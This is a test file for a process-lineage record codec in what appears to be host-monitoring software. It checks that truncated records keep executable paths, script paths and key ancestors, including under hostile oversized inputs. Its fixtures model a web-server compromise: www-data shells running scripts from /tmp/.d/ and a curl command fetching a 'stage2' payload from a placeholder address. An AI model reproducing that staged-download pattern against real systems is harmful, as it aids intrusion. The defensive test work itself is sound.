import { describe, expect, it } from "vitest";
import type { ProcessImage, ProcessNode, ProcessRecord } from "../../lib/lineage/process-record.js";
import { deserializeRecord, MAX_RECORD_JSON_BYTES, serializeRecord } from "../../lib/lineage/record-codec.js";
import { cutArgs, cutEnd, cutPath } from "../../lib/lineage/record-trim.js";

/**
 * Evidence first (issue 10): a record cut to MAX_RECORD_JSON_BYTES loses working directories, long args and
 * the middle of long chains before any executable or script path of the lineage it keeps, and never the
 * parent, the top, or its own command line's head. Hostile sizes throughout: a control character is 1 byte of
 * telemetry and 6 of JSON (`\u0001`).
 */
const C1 = "\u0001";
/** The working directory: 15 components of 250 \x01, legal on Linux (NAME_MAX 255, PATH_MAX 4096). */
const HOSTILE_CWD = `/${Array.from({ length: 15 }, () => C1.repeat(250)).join("/")}`;
const HOSTILE_ARGS = Array.from({ length: 32 }, (_, i) => `${i}${C1.repeat(511)}`);

interface Shape {
  ancestors?: number;
  /** Earlier images per process. */
  chain?: number;
  cwd?: string;
  /** Args after the program and its first argument. */
  rest?: readonly string[];
  user?: string;
}

const image = (name: string, i: number, shape: Shape): ProcessImage => ({
  executable: `/usr/bin/${name}`,
  script: `/tmp/.d/${name}${i}.sh`,
  args: [name, `/tmp/.d/${name}${i}.sh`, ...(shape.rest ?? [])],
  ...(shape.cwd !== undefined && { cwd: shape.cwd }),
  time: 1_700_000_000_000 + i,
  seq: 1_000_000 + i,
  by: "0123456789abcdef",
});

const node = (i: number, shape: Shape): ProcessNode => ({
  pid: 10_000 + i,
  ...image("bash", i, shape),
  user: { id: "33", name: shape.user ?? "www-data" },
  chain: Array.from({ length: shape.chain ?? 0 }, (_, j) => image(`stage${j}-`, i, shape)),
});

/** The record of curl under `ancestors` generations, every image shaped alike. */
function record(shape: Shape): ProcessRecord {
  return {
    host: "web-01",
    pid: 300,
    ppid: 10_000,
    start: 1_700_000_000_000,
    sessionId: "7",
    executable: "/usr/bin/curl",
    args: ["curl", "http://198.51.100.7/stage2", ...(shape.rest ?? [])],
    ...(shape.cwd !== undefined && { cwd: shape.cwd }),
    time: 1_700_000_100_000,
    seq: 99,
    by: "fedcba9876543210",
    eventId: "web-01:300:99",
    user: { id: "33", name: shape.user ?? "www-data" },
    chain: Array.from({ length: shape.chain ?? 0 }, (_, j) => image(`loader${j}-`, 0, shape)),
    ancestors: Array.from({ length: shape.ancestors ?? 0 }, (_, i) => node(i, shape)),
  };
}

function stored(r: ProcessRecord): { json: string; decoded: ProcessRecord } {
  const json = serializeRecord(r);
  const decoded = deserializeRecord(json, r.host, r.pid);
  expect(decoded).toBeDefined();
  return { json, decoded: decoded! };
}

/** What every cut keeps, whatever it had to cut. */
function expectEvidence(r: ProcessRecord, json: string, decoded: ProcessRecord): void {
  expect(Buffer.byteLength(json)).toBeLessThanOrEqual(MAX_RECORD_JSON_BYTES);
  // The utility's own command line head and paths.
  expect(decoded.executable).toBe(r.executable);
  expect(decoded.args.slice(0, 2)).toEqual(r.args.slice(0, 2));
  // The parent always; the top whenever more than one ancestor stays; the nearest ones in between.
  const pids = decoded.ancestors.map((a) => a.pid);
  const all = r.ancestors.map((a) => a.pid);
  if (all.length > 0) expect(pids[0]).toBe(all[0]);
  if (pids.length > 1) {
    expect(pids.at(-1)).toBe(all.at(-1));
    expect(pids.slice(0, -1)).toEqual(all.slice(0, pids.length - 1));
  }
  // Every ancestor kept keeps its executable, its script and the head of its args.
  for (const kept of decoded.ancestors) {
    const original = r.ancestors.find((a) => a.pid === kept.pid)!;
    expect(kept.executable).toBe(original.executable);
    expect(kept.script).toBe(original.script);
    expect(kept.args[0]).toBe(original.args[0]);
    // Earlier images, when kept: the nearest ones, then the first one, each with its paths.
    const n = kept.chain.length;
    const expected =
      n < 2 || n === original.chain.length
        ? original.chain.slice(0, n)
        : [...original.chain.slice(0, n - 1), original.chain.at(-1)!];
    expect(kept.chain.map((c) => [c.executable, c.script])).toEqual(
      expected.map((c) => [c.executable, c.script]),
    );
  }
}

describe("a record cut to its size cap, evidence first", () => {
  it.each<[string, Shape, (decoded: ProcessRecord) => void]>([
    [
      "the issue's cwd (15 × 250 \\x01) on every image of 16 generations: cwds go, all 16 stay",
      { ancestors: 16, cwd: HOSTILE_CWD },
      (d) => {
        expect(d.ancestors).toHaveLength(16);
        expect(d.cwd).toBeUndefined();
      },
    ],
    [
      "the issue's cwd on the shell and its parent only: all of both stays but the cwds",
      { ancestors: 2, chain: 1, cwd: HOSTILE_CWD },
      (d) => {
        expect(d.ancestors).toHaveLength(2);
        expect(d.ancestors.map((a) => a.chain.length)).toEqual([1, 1]);
      },
    ],
    [
      "32 args of 512 \\x01 in every image of 16 generations with 8 earlier images each",
      { ancestors: 16, chain: 8, rest: HOSTILE_ARGS },
      (d) => expect(d.ancestors.length).toBeGreaterThanOrEqual(8),
    ],
    [
      "huge cwd and huge args together, 16 generations, 8 earlier images each",
      { ancestors: 16, chain: 8, rest: HOSTILE_ARGS, cwd: HOSTILE_CWD, user: C1.repeat(256) },
      (d) => expect(d.ancestors.length).toBeGreaterThanOrEqual(8),
    ],
    [
      "a 200-ancestor chain (past lineage's own depth cap): the nearest that fit and the top",
      { ancestors: 200, cwd: HOSTILE_CWD, rest: HOSTILE_ARGS },
      (d) => {
        expect(d.ancestors.length).toBeGreaterThanOrEqual(10);
        expect(d.ancestors.at(-1)!.pid).toBe(10_199);
      },
    ],
    [
      "earlier images of the utility's own process: the nearest ones and the first one stay",
      { ancestors: 1, chain: 8, cwd: HOSTILE_CWD, rest: HOSTILE_ARGS },
      (d) => {
        expect(d.chain.length).toBeGreaterThanOrEqual(2);
        expect(d.chain.at(-1)!.executable).toBe("/usr/bin/loader7-");
      },
    ],
  ])("%s", (_name, shape, more) => {
    const r = record(shape);
    const { json, decoded } = stored(r);
    expectEvidence(r, json, decoded);
    more(decoded);
  });

  it("places a relative invoked path against the whole cwd before cutting the cwd", () => {
    const cwd = `/tmp/.d/${C1.repeat(250)}/${C1.repeat(250)}`;
    const parent: ProcessNode = { ...node(0, { cwd: HOSTILE_CWD }), invokedPath: "../../x.sh", cwd };
    const r: ProcessRecord = { ...record({ ancestors: 16, cwd: HOSTILE_CWD }), ancestors: [parent] };
    const { json, decoded } = stored({ ...r, invokedPath: "./curl", args: [...r.args, ...HOSTILE_ARGS] });
    expect(Buffer.byteLength(json)).toBeLessThanOrEqual(MAX_RECORD_JSON_BYTES);
    expect(decoded.ancestors[0]!.cwd).toBeUndefined();
    expect(decoded.ancestors[0]!.invokedPath).toBe("/tmp/.d/x.sh");
    // The utility's own: placed under the hostile cwd, then cut in the middle like any long path.
    expect(decoded.invokedPath!.startsWith(`/${C1}`)).toBe(true);
    expect(decoded.invokedPath!.endsWith(`${C1}/curl`)).toBe(true);
  });

  it.each([
    ["\\x01 (6 bytes of JSON each)", C1],
    ["astral (4 bytes, 2 UTF-16 units)", "😈"],
    ["U+2028 (3 bytes)", "\u2028"],
    ["mixed", `${C1}😈é`],
  ])(
    "fits when every string is 4 KB of %s at every image, keeping the parent, the top and each path's head",
    (_name, unit) => {
      const hostile = `/tmp/.d/${unit.repeat(Math.ceil(4_000 / unit.length))}/x.sh`;
      const img: ProcessImage = {
        executable: hostile,
        invokedPath: hostile,
        script: hostile,
        args: Array.from({ length: 32 }, () => hostile),
        cwd: hostile,
        time: 8.64e15,
        seq: Number.MAX_SAFE_INTEGER,
        by: "zzzzzzzzzzzzzz",
      };
      const big = (pid: number): ProcessNode => ({
        pid,
        ...img,
        user: { id: hostile, name: hostile },
        chain: Array.from({ length: 8 }, () => img),
      });
      const r: ProcessRecord = {
        ...big(4_294_967_295),
        host: "h",
        ppid: 4_294_967_295,
        start: 8.64e15,
        sessionId: hostile,
        eventId: unit.repeat(256 / unit.length),
        incomplete: true,
        ancestors: Array.from({ length: 16 }, (_, i) => big(i + 1)),
      };
      const { json, decoded } = stored(r);
      expect(Buffer.byteLength(json)).toBeLessThanOrEqual(MAX_RECORD_JSON_BYTES);
      expect(decoded.ancestors.length).toBeGreaterThanOrEqual(2);
      expect(decoded.ancestors[0]!.pid).toBe(1);
      expect(decoded.ancestors.at(-1)!.pid).toBe(16);
      for (const path of [
        decoded.executable,
        decoded.ancestors[0]!.executable,
        decoded.ancestors[0]!.script!,
      ]) {
        expect(path.startsWith(`/tmp/.d/${unit}`)).toBe(true);
        expect(path.endsWith("/x.sh")).toBe(true);
      }
    },
  );
});

describe("the cuts", () => {
  it.each<[string, string, number, string]>([
    ["a short path as it is", "/tmp/x", 32, "/tmp/x"],
    [
      "a long path keeps its directory and its file name",
      `/tmp/${"a".repeat(100)}/x.sh`,
      32,
      `/tmp/${"a".repeat(16)}…aaaaa/x.sh`,
    ],
    [
      "`..` is resolved before the cut: the cut cannot hide it",
      `/usr/bin/${"a/".repeat(40)}${"../".repeat(42)}tmp/x`,
      32,
      "/tmp/x",
    ],
    [
      "a deleted image keeps its suffix",
      `/tmp/${"b".repeat(100)} (deleted)`,
      40,
      `/tmp/${"b".repeat(21)}…bbb (deleted)`,
    ],
    ["a memfd name is no path", `memfd:${"c".repeat(100)}`, 16, `memfd:${"c".repeat(4)}…ccccc`],
    ["never splits a surrogate pair", `/tmp/${"😈".repeat(50)}`, 16, "/tmp/😈😈…😈😈"],
  ])("cutPath: %s", (_name, path, max, expected) => {
    const cut = cutPath(path, max);
    expect(cut).toBe(expected);
    expect(cut.length).toBeLessThanOrEqual(max);
  });

  it.each<[string, string, number, string]>([
    ["as it is when short", "abc", 3, "abc"],
    ["marked when cut", "abcdef", 4, "abc…"],
    ["never splits a surrogate pair", "a😈b", 3, "a…"],
  ])("cutEnd: %s", (_name, text, max, expected) => {
    expect(cutEnd(text, max)).toBe(expected);
  });

  it.each<[string, string[], Parameters<typeof cutArgs>[1], string[]]>([
    [
      "the head of an argv",
      ["curl", "-s", "http://x/", "-o", "y"],
      { count: 2, each: 64, total: 128 },
      ["curl", "-s"],
    ],
    ["each argument cut", ["sh", "x".repeat(100)], { count: 2, each: 8, total: 128 }, ["sh", "xxxxxxx…"]],
    [
      "the total: the argument that crosses it is cut",
      ["a".repeat(6), "b".repeat(6)],
      { count: 9, each: 9, total: 8 },
      ["aaaaaa", "b…"],
    ],
  ])("cutArgs: %s", (_name, args, cut, expected) => {
    expect(cutArgs(args, cut)).toEqual(expected);
  });
});
